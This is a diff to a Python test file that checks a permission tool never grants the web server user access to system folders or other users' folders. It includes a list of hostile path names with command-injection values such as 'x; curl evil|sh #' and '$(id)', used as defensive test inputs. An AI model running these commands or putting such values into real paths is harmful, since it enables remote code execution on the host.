@@ -23,7 +23,7 @@ from hypothesis import strategies as st
 
 ROOT = Path(__file__).parents[4]
 HOME, PREFIX = "/var/lib/tethys", "/opt/conda/envs/tethys"
-HOSTILE = ["/srv/x; curl evil|sh #", "/srv/$(id)", "/srv/a b", "/srv/'\"", "/srv/-rf", "/srv/*", "/srv/~", "/srv/a&&b"]
+HOSTILE = [f"{HOME}/{name}" for name in ("x; curl evil|sh #", "$(id)", "a b", "'\"", "-rf", "*", "~", "a&&b")]
 # Whatever an app or a person can have in a name and that prints.
 NAMES = st.text(
     alphabet=st.characters(blacklist_categories=("C", "Zl", "Zp", "Zs"), blacklist_characters="`"), min_size=1
@@ -59,26 +59,30 @@ def test_a_path_of_an_app(path: str) -> None:
 
 @given(NAMES)
 def test_any_path_of_an_app(name: str) -> None:
-    path = f"/srv/x/{name}"
+    path = f"{HOME}/x/{name}"
     if "/../" in f"{path}/":
         return
     assert access(path, "read") == [["setfacl", "-m", "u:www-data:r", path]]
 
 
+# Where an app can have MEDIA_ROOT, its database or its workspaces.
+OF_OTHERS = ["/var/spool/cron/crontabs", "/var/lib/docker", "/home/bob/.ssh", "/srv/media", f"{HOME}2", f"{HOME}/../x"]
 SHARED = ["/", "/etc", "/etc/", "/usr", "/var", "/home", "/tmp", "/opt", "/srv", "/var/log", "/run", "/root", "//etc"]
 
 
-@pytest.mark.parametrize("path", [*SHARED, "/etc/cron.d", "/usr/lib/x", "/root/.ssh", "/srv/../etc", "relative", "-R"])
-def test_no_command_gives_a_folder_of_the_system_away(path: str) -> None:
+@pytest.mark.parametrize("path", [*SHARED, *OF_OTHERS, "/etc/cron.d", "/usr/lib/x", "/srv/../etc", "relative", "-R"])
+def test_no_command_gives_a_folder_of_the_system_or_of_others_away(path: str) -> None:
     assert access(path, "write") == []
+    assert access(f"{path}/x", "write", blocked_by=path) == []
     row = {"folder": path, "owner": "root", "uid": 0, "count": 2, "example": f"{path}/x"}
     assert commands(list(look(leftovers=[row])._leftover_reasons("root"))) == []
 
 
 def test_a_link_of_an_app_is_judged_by_what_it_leads_to() -> None:
     assert access(f"{HOME}/media", "write", real="/etc") == []
-    [first, _second] = access(f"{HOME}/media", "write", real="/srv/media")
-    assert first[-1] == "/srv/media"
+    assert access(f"{HOME}/media", "write", real="/srv/media") == []
+    [first, _second] = access(f"{HOME}/media", "write", real=f"{HOME}/other")
+    assert first[-1] == f"{HOME}/other"
     row = {"folder": f"{HOME}/media", "owner": "root", "uid": 0, "count": 1, "example": "x", "real": "/etc"}
     assert commands(list(look(leftovers=[row])._leftover_reasons("root"))) == []
 
@@ -89,6 +93,18 @@ def test_what_the_administrator_named_may_be_given() -> None:
     found.asked = {**found.asked, "tethys_conda_prefix": prefix}
     found.portal_reasons()
     assert commands(found.reasons) == [["setfacl", "-m", "u:www-data:r", f"{prefix}/bin"]]
+
+
+def test_a_folder_on_the_way_may_be_entered_and_no_more() -> None:
+    folder = "/home/alice"
+    found = look(access=[{"path": f"{folder}/t", "need": "read", "ok": False, "blocked_by": folder, "owner": "alice"}])
+    found.asked = {**found.asked, "tethys_home": f"{folder}/t"}
+    found.portal_reasons()
+    assert commands(found.reasons) == [["setfacl", "-m", "u:www-data:x", folder]]
+    found.reasons.clear()
+    found.portal = {**found.portal, "access": [{**found.portal["access"][0], "path": folder, "need": "write"}]}
+    found.portal_reasons()
+    assert commands(found.reasons) == []
 
 
 @pytest.mark.parametrize("folder", HOSTILE)
